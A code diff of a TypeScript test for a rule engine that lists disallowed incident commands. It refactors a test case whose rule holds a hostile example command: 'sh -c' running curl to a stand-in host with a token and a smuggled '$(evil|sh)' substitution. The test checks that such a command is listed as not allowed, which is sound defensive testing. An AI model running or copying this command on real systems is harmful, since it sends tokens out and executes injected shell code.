@@ -255,8 +255,7 @@ describe('a command', () => {
   });
 
   it('is listed as a whole, and allowed by its whole content', async () => {
-    const command = (token: string) => ({ command: ['sh', '-c', `curl http://h/?token=${token}`] as const });
-    await setRule(command('$(evil|sh)') as never);
+    await setRule({ command: ['sh', '-c', 'curl http://h/?token=$(evil|sh)'] });
     const { notAllowed, notAllowedDigest: digest } = await engine.client.call('incidents.rules', {});
     expect(notAllowed.map(({ text }) => text)).toEqual([
       'when an incident begins and when it ends: run "sh" "-c" "curl http://h/?token=$(evil|sh)" on this machine',
